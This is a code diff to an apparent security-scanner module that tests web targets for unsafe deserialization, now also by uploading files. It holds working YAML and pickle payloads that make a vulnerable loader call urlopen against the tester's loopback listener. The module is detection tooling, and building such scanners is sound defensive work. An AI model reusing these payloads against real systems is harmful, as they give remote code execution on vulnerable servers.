@@ -3,7 +3,7 @@
 1. An expression that no calculator knows is sent: the digits of a product from the end. It counts where they stand in
    the answer, twice.
 2. YAML and pickle are sent that, read by a loader which makes any object, ask a listener of our own on loopback. It
-   counts where the listener was asked for the path that only this value had.
+   counts where the listener was asked for the path that only this value had. Files are sent with the same in them.
 """
 
 import base64
@@ -14,13 +14,14 @@ from typing import Final
 
 from buckler.drill.attack import About, Attack, Finding, Verdicts
 from buckler.drill.attacks.aiming.aim import Aim
-from buckler.drill.attacks.aiming.sending import fired, instead, instead_each, shots
+from buckler.drill.attacks.aiming.sending import fired, instead, instead_each, renewed, send, shots
 from buckler.drill.attacks.input.products import Product
 from buckler.drill.attacks.input.shown import shown_again
 from buckler.drill.attacks.input.walk import finding, takes_text, walked
 from buckler.drill.attacks.listener import Listener, listening, word
+from buckler.drill.drafting.upload import Upload
 from buckler.drill.engagement import Engagement
-from buckler.drill.plan.route import Slot
+from buckler.drill.plan.route import MULTIPART, Route, Slot
 from buckler.drill.transport.answer import Exchange
 
 ABOUT: Final = About(
@@ -40,8 +41,12 @@ _WITHIN: Final = 2
 
 async def _verdicts(on: Engagement) -> Verdicts:
     with listening() if on.sender.is_near else nullcontext() as listener:
-        async for verdict in walked(on, partial(_judge, listener), takes_text, unasked=True):
+        async for verdict in walked(on, partial(_judge, listener), _takes_values, unasked=True):
             yield verdict
+
+
+def _takes_values(on: Engagement, route: Route) -> bool:
+    return takes_text(on, route) or (route.body is not None and route.body.media == MULTIPART)
 
 
 async def _judge(listener: Listener | None, on: Engagement, aim: Aim) -> AsyncGenerator[Finding]:
@@ -51,6 +56,8 @@ async def _judge(listener: Listener | None, on: Engagement, aim: Aim) -> AsyncGe
         for make in (_yaml, _pickle):
             async for found in _objects(listener, on, aim, make):
                 yield found
+        async for found in _files(listener, on, aim):
+            yield found
 
 
 async def _expressions(on: Engagement, aim: Aim) -> AsyncGenerator[Finding]:
@@ -90,14 +97,40 @@ async def _objects(listener: Listener, on: Engagement, aim: Aim, make: Callable[
                 )
 
 
+async def _files(listener: Listener, on: Engagement, aim: Aim) -> AsyncGenerator[Finding]:
+    """Files that describe such an object, each as what its name says."""
+    if aim.draft.media != MULTIPART:
+        return
+    for field in sorted(aim.draft.files):
+        slot = Slot("form", (field,))
+        for name, media, make in _KINDS:
+            heard = word()
+            content = make(f"http://127.0.0.1:{listener.port}/{heard}")
+            draft = await renewed(on, aim)
+            exchange = await send(on, aim, draft.put(slot, Upload(name, content, media)))
+            if listener.has_heard(heard):
+                words = "An object that the file describes is made, and asks our listener."
+                yield finding(aim, words, exchange, f"{slot}, what is in it")
+                break
+
+
 def _yaml(url: str) -> str:
     return f"!!python/object/apply:urllib.request.urlopen ['{url}', null, {_WITHIN}]"
 
 
 def _pickle(url: str) -> str:
     """A pickle of protocol 0 that calls `urlopen`, written by hand: reading it is what makes the call."""
-    raw = f"curllib.request\nurlopen\n(V{url}\nNI{_WITHIN}\ntR."
-    return base64.b64encode(raw.encode()).decode()
+    return base64.b64encode(_raw_pickle(url)).decode()
+
+
+def _raw_pickle(url: str) -> bytes:
+    return f"curllib.request\nurlopen\n(V{url}\nNI{_WITHIN}\ntR.".encode()
+
+
+_KINDS: Final[tuple[tuple[str, str, Callable[[str], bytes]], ...]] = (
+    ("drill.yaml", "application/yaml", lambda url: _yaml(url).encode()),
+    ("drill.pkl", "application/octet-stream", _raw_pickle),
+)
 
 
 ATTACK: Final = Attack(ABOUT, _verdicts)
